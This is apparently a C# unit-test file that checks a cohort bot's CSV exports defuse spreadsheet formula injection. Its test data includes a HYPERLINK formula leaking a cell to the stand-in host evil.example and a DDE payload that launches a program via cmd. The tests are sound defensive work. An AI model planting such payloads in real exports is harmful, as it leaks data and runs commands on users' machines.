using CohortBot.Core.Cohorts;
using CohortBot.Core.Commands;
using CohortBot.Core.Exports;
using static CohortBot.Organizers.Tests.OrganizerFixture;

namespace CohortBot.Organizers.Tests;

/// <summary>
/// Exports are opened in spreadsheets: a cell that starts with = + - @ (or a tab or CR) is a
/// formula there. Every export neutralises such cells (OWASP, CSV injection) and starts with a
/// UTF-8 byte order mark so Excel reads Korean names as UTF-8.
/// </summary>
public sealed class ExportSafetyTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    private static readonly string[] Evil = [Hyperlink, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];

    [Fact]
    public async Task Participants_NeutralisesFormulaNames()
    {
        await using var f = await EvilCohortAsync();

        var rows = await ExportRowsAsync(f, "participants");

        AssertNeutralised(rows, column: 1);
    }

    [Fact]
    public async Task Submissions_NeutralisesFormulaNamesAndReasons()
    {
        await using var f = await EvilCohortAsync();
        f.At("2026-09-15 10:00");
        foreach (var user in new[] { "evil0", "evil1", "evil2", "evil3" })
        {
            Assert.NotEqual(ReplyTone.Error, (await f.RunAsync(user, "submit", ("week", 1L), ("url", "https://example.com/" + user))).Tone);
        }

        var review = await f.RunAsync(OrgA, "review");
        await f.RunAsync(OrgA, "reject", ("proof", ReviewQueueTests.ProofOf(review)), ("reason", "-1 point: =2+2"));

        var rows = await ExportRowsAsync(f, "submissions");

        AssertNeutralised(rows, column: 2);
        Assert.Contains(rows, r => r[13] == "'-1 point: =2+2");
    }

    [Fact]
    public async Task Rsvps_NeutraliseFormulaNames()
    {
        await using var f = await EvilCohortAsync();
        f.At("2026-09-22 10:00");
        foreach (var user in new[] { "evil0", "evil1", "evil2", "evil3" })
        {
            await f.RunAsync(user, "rsvp", ("event", "oh-two"));
        }

        var rows = await ExportRowsAsync(f, "rsvps");

        AssertNeutralised(rows, column: 6);
    }

    [Fact]
    public async Task Completion_NeutralisesFormulaNames()
    {
        await using var f = await EvilCohortAsync();

        var rows = await ExportRowsAsync(f, "completion");

        AssertNeutralised(rows, column: 1);
    }

    [Fact]
    public async Task CompletionReport_Attachment_IsNeutralisedToo()
    {
        await using var f = await EvilCohortAsync();

        var reply = await f.RunAsync(OrgA, "report", ("kind", "completion"));

        var rows = Rows(Assert.Single(reply.Files).Content);
        AssertNeutralised(rows, column: 1);
    }

    [Fact]
    public void Csv_NeutralisesEveryTriggerCharacter_QuotesTheCell_AndReadsBackTheOriginal()
    {
        string?[] row = ["=1+1", "+1", "-1", "@x", "\tTAB", "\rCR", "＝1+1", "safe-ish", "a=b", "", null, "1", "2026-09-20T23:59:00+09:00", "https://example.com/a?b=-1"];
        var header = row.Select((_, i) => "c" + i).ToArray();

        var bytes = Csv.Write(header, [row]);

        var text = Csv.Encoding.GetString(bytes.AsSpan(3));
        Assert.Equal(
            string.Join(",", header) + "\r\n" +
            "\"'=1+1\",\"'+1\",\"'-1\",\"'@x\",\"'\tTAB\",\"'\rCR\",\"'＝1+1\",safe-ish,a=b,,,1,2026-09-20T23:59:00+09:00,https://example.com/a?b=-1\r\n",
            text);
        Assert.Equal(row.Select(v => v ?? string.Empty), Csv.Read(text)[1]);
    }

    [Fact]
    public void Csv_StartsWithAByteOrderMark_SoExcelReadsUtf8()
    {
        var bytes = Csv.Write(["name"], [["김민준"]]);

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.Equal("name\r\n김민준\r\n", Csv.Encoding.GetString(bytes.AsSpan(3)));
        Assert.Equal("김민준", Csv.Read(Csv.Encoding.GetString(bytes))[1][0]);
    }

    private static void AssertNeutralised(IReadOnlyList<IReadOnlyList<string>> rows, int column)
    {
        var cells = rows.Skip(1).Select(r => r[column]).ToList();
        foreach (var evil in Evil)
        {
            Assert.Contains("'" + evil, cells);
        }

        Assert.DoesNotContain(cells, c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal));
    }

    private static async Task<OrganizerFixture> EvilCohortAsync()
    {
        var roster = Evil.Select((name, i) => new RosterEntry(name, $"evil{i}@example.com", new Dictionary<string, string> { ["terminal"] = "evil" + i }, 1));
        var f = await CreateAsync(OrganizerFixture.Cohort() with { Roster = [.. roster] });
        f.At("2026-09-15 09:00");
        return f;
    }

    private static async Task<IReadOnlyList<IReadOnlyList<string>>> ExportRowsAsync(OrganizerFixture f, string kind)
    {
        var reply = await f.RunAsync(OrgB, "export", ("kind", kind));
        Assert.Equal(ReplyTone.Success, reply.Tone);
        return Rows(Assert.Single(reply.Files).Content);
    }

    /// <summary>The raw cells as a spreadsheet would get them: no un-neutralising on the way back.</summary>
    private static IReadOnlyList<IReadOnlyList<string>> Rows(byte[] content)
    {
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, content[..3]);
        var text = Csv.Encoding.GetString(content.AsSpan(3));
        return RawCells(text);
    }

    private static List<IReadOnlyList<string>> RawCells(string text)
    {
        // A minimal RFC 4180 reader that keeps every character of a cell (Csv.Read strips the guard).
        var rows = new List<IReadOnlyList<string>>();
        var row = new List<string>();
        var cell = new System.Text.StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
                i++;
            }
            else
            {
                cell.Append(c);
            }
        }

        return rows;
    }
}
